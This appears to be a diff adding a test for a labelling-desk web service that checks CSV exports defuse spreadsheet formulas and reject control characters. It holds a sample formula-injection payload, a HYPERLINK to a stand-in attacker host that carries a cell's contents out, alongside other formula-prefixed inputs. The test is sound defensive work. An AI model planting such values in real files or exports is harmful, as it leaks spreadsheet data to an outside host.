@@ -1,6 +1,7 @@
 """Parts of the labelling desk without a browser: the queue's orders, the store of answers, tiles, agreement,
 exports."""
 
+import csv
 import io
 import shutil
 import sqlite3
@@ -165,6 +166,26 @@ def client_of(desk: Desk) -> TestClient:
     return TestClient(
         app, base_url="http://127.0.0.1", headers={"authorization": f"Bearer {TOKEN}"}, client=("127.0.0.1", 50000)
     )
+
+
+def test_what_people_write_is_no_formula_in_a_table(tmp_path: Path) -> None:
+    link = '=HYPERLINK("http://evil.example?"&A1,"see")'
+    with opened(Wanted(write_textures(tmp_path / "tiles", 4), size_px=64)) as desk:
+        client = client_of(desk)
+        tile = client.get("/v1/desk/queue?who=x").json()["tiles"][0]["id"]
+        body = {"tiles": [tile], "kind": "mixed"}
+        notes = {link: link, "+1": "@SUM(A1)", "-2": "\t=1", "Ada": "two\nlines - and =", "O'Hara": "'tis"}
+        for number, (who, note) in enumerate(notes.items()):
+            given = {**body, "act": f"act-number-{number:08}", "who": who, "note": note}
+            assert client.post("/v1/desk/answers", json=given).status_code == 200, who
+        rows = list(csv.DictReader(io.StringIO(client.get("/v1/desk/answers.csv").text, newline="")))
+        found = {row["reviewer"]: row["note"] for row in rows}
+        marked = {f"'{who}": f"'{note}" for who, note in list(notes.items())[:3]}
+        assert found == {**marked, "Ada": "two\nlines - and =", "O'Hara": "'tis"}
+        for wrong in ({"who": "A\nB"}, {"who": "A\x00"}, {"who": "A\u2028B"}, {"note": "a\x1bb"}, {"note": "a\rb"}):
+            answer = client.post("/v1/desk/answers", json={**body, "act": "a" * 16, "who": "Ada", **wrong})
+            assert answer.status_code == 422 and "control characters are not taken" in answer.json()["error"], wrong
+        assert client.get("/v1/desk/queue", params={"who": "A\x07B"}).status_code == 422
 
 
 # ---- people
